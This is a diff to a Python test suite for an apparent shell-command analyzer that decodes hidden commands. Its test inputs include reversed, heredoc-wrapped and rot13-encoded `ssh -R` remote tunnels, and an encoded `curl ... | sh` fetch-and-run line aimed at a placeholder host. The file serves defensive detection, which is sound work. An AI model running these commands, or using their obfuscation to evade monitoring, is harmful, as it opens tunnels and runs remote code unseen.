@@ -75,6 +75,7 @@ def test_redirections_are_recorded_with_their_operator() -> None:
         "bash <<'EOF'\nssh -R 80:localhost:80 x@h\nEOF",
         "bash <<< 'ssh -R 80:localhost:80 x@h'",
         "echo 'h@x 08:tsohlacol:08 R- hss' | rev | sh",
+        "echo 'ffu -E 80:ybpnyubfg:80 k@u' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",  # rot13
         "GIT_SSH_COMMAND='ssh -R 80:localhost:80 x@h' git fetch",
     ],
 )
@@ -82,7 +83,18 @@ def test_hidden_commands_are_decoded_and_analysed(cmd: str) -> None:
     out = analyze_command(cmd)
     assert "ssh" in out["cmd.names"]
     assert "ssh_forward_remote" in out["cmd.features"]
-    assert out["cmd.depth"] >= 1 or "reversed_text" in out["cmd.features"] or "xxd" in cmd
+    assert out["cmd.depth"] >= 1 or {"reversed_text", "translated_text"} & set(
+        out["cmd.features"]) or "xxd" in cmd
+
+
+def test_tr_is_read_as_the_character_map_it_applies() -> None:
+    """Only a plain translation is a map: -d/-s/-c and [:class:] sets decode nothing,
+    and text tr only upper-cases is not a command."""
+    out = analyze_command("echo 'phey uggc://k/v.fu | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh")
+    assert "curl" in out["cmd.names"] and "translated_text" in out["cmd.features"]
+    for honest in ("cat names.txt | tr a-z A-Z | sort", "echo hello | tr -d l",
+                   "tr -s ' ' < f.txt", "echo abc | tr '[:lower:]' '[:upper:]'"):
+        assert "translated_text" not in analyze_command(honest)["cmd.features"], honest
 
 
 def test_decoded_payload_is_reported() -> None:
